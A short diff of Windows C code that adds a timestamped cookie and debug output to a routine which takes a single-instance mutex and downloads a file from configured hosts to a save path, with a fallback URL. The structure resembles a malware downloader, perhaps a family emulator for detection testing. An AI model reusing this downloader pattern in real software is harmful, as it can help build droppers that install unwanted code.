@@ -53,7 +53,11 @@ static int family_run(void)
     HANDLE mutex = CreateMutexW(NULL, FALSE, CFG_MUTEX);
     if (mutex == NULL || GetLastError() == ERROR_ALREADY_EXISTS)
         return 1;
+    char cookie[64];
     ExpandEnvironmentStringsW(CFG_SAVE_PATH, save, MAX_PATH);
+    wsprintfA(cookie, CFG_COOKIE_FMT, GetTickCount());
+    OutputDebugStringA(cookie);
+    OutputDebugStringA(CFG_HDR_ID);
     OutputDebugStringW(CFG_URL1);
     if (!fetch_w(CFG_HOST1, CFG_PATH1, save)) {
         OutputDebugStringW(CFG_URL2);
